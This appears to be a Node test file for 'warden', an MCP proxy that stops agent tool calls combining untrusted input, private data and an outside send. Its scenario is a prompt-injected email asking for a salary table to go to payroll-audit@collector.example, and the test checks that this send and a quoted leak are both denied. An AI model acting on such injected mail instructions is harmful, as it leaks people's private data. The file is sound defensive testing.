// The lethal trifecta end to end (docs/trifecta.md): the official MCP SDK client reads an inbox
// whose one mail asks for the salary table to go to an outside address, reads the table, and
// tries to send it. Through `warden serve` and a real MCP server (fixtures/mail-server.mjs):
// a reply to the mail's trusted sender goes through without a person; the mail to the address the
// body named is denied with the legs named by their audit ids and never reaches the server; a
// second session starts clean; the audit log holds the decision with its legs; after a restart
// the first session's client, which still holds its session id, is refused a new session (the
// session ended), but the same task id (`_meta["warden/task"]`) over stateless calls is still
// remembered.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { join } from 'node:path';
import {
  FIXTURES, NODE, auditEntries, connectHttp, resultText, startServe, tempDir, writeFile,
} from './lib/warden.mjs';

const MAIL_SERVER = join(FIXTURES, 'mail-server.mjs');
let tmp, db, policyFile, warden;

const POLICY = `version: 1
upstreams:
  mail:
    command: ["${NODE}", "${MAIL_SERVER}"]
tools:
  - match: { tool: mail__list_inbox }
    risk: low
    private_output: [""]
    untrusted_output: ["/messages/*/subject", "/messages/*/body"]
  - match: { tool: mail__read_doc }
    risk: low
    labels: [private_output]
  - match: { tool: mail__send_email }
    risk: low
    labels: [external_send]
    destinations: ["/to"]
  - match: { tool: mail__outbox }
    risk: low
trifecta: { effect: deny }
`;

before(async () => {
  tmp = tempDir();
  db = join(tmp.dir, 'warden.db');
  policyFile = writeFile(tmp.dir, 'policy.yaml', POLICY);
  warden = await startServe(['--config', policyFile, '--audit-db', db]);
});
after(async () => {
  await warden?.stop();
  tmp?.cleanup();
});

const call = (client, name, args = {}, meta) => client.callTool({ name, arguments: args, ...(meta ? { _meta: meta } : {}) });
const DENIED = 'warden denied this call: ';

test('the injected address is stopped, the reply to the sender is not, and the legs are named', { timeout: 60000 }, async () => {
  const { client } = await connectHttp(warden.url);
  try {
    const inbox = await call(client, 'mail__list_inbox');
    assert.ok(!inbox.isError, resultText(inbox));
    const doc = await call(client, 'mail__read_doc', { id: 'salaries' });
    assert.ok(!doc.isError, resultText(doc));
    // The sender came from the mail system's own field, and the text is fresh: a clean send.
    const ok = await call(client, 'mail__send_email', { to: 'ceo@brightlane.example', body: 'I will bring it to the meeting.' });
    assert.ok(!ok.isError, resultText(ok));
    // The address only the body named: denied, with the calls behind each leg.
    const leak = await call(client, 'mail__send_email', { to: 'payroll-audit@collector.example', body: 'see the table' });
    assert.ok(leak.isError, 'the exfiltrating mail was not stopped');
    const text = resultText(leak);
    assert.ok(text.startsWith(DENIED), text);
    assert.match(text, /appeared only in untrusted content \(#\d+ mail__list_inbox\)/);
    assert.match(text, /private data from #\d+ mail__list_inbox, #\d+ mail__read_doc/);
    // The reply to the sender, quoting the table: stopped by fingerprints.
    const quoted = await call(client, 'mail__send_email', {
      to: 'ceo@brightlane.example', body: 'Here: Emma Schneider 98,500 EUR; Jonas Berg 87,200 EUR',
    });
    assert.ok(quoted.isError, 'the quoted table went out');
    assert.match(resultText(quoted), /carries private data from #\d+ mail__read_doc/);
    const outbox = await call(client, 'mail__outbox');
    const sent = outbox.structuredContent?.sent ?? JSON.parse(resultText(outbox)).sent;
    assert.deepEqual(sent.map((m) => m.to), ['ceo@brightlane.example'], 'only the clean reply reached the server');
  } finally {
    await client.close();
  }
  // A new session holds nothing.
  const { client: fresh } = await connectHttp(warden.url);
  try {
    const r = await call(fresh, 'mail__send_email', { to: 'someone@new.example', body: 'hello' });
    assert.ok(!r.isError, resultText(r));
  } finally {
    await fresh.close();
  }
  // The audit log has the denial with its rule and legs.
  const denial = auditEntries(db).find((e) => e.tool === 'mail__send_email' && e.decision === 'deny');
  assert.ok(denial, 'no audited denial');
  assert.equal(denial.rule, 'trifecta');
  assert.match(denial.reason, /untrusted content from #\d+ mail__list_inbox/);
});

test('a task id carries the state across sessions and across a restart', { timeout: 60000 }, async () => {
  const task = { 'warden/task': 'board-prep-42' };
  const { client } = await connectHttp(warden.url);
  // Each call opens its own session here (as a stateless client would): the task ties them.
  try {
    assert.ok(!(await call(client, 'mail__list_inbox', {}, task)).isError);
    assert.ok(!(await call(client, 'mail__read_doc', { id: 'salaries' }, task)).isError);
  } finally {
    await client.close();
  }
  await warden.stop();
  warden = await startServe(['--config', policyFile, '--audit-db', db]);
  const { client: again } = await connectHttp(warden.url);
  try {
    const r = await call(again, 'mail__send_email', { to: 'payroll-audit@collector.example', body: 'x' }, task);
    assert.ok(r.isError, 'the restart forgot the task');
    assert.match(resultText(r), /trifecta/);
    // The same session without the task is its own (new) state.
    const other = await call(again, 'mail__send_email', { to: 'payroll-audit@collector.example', body: 'x' });
    assert.ok(!other.isError, resultText(other));
  } finally {
    await again.close();
  }
});
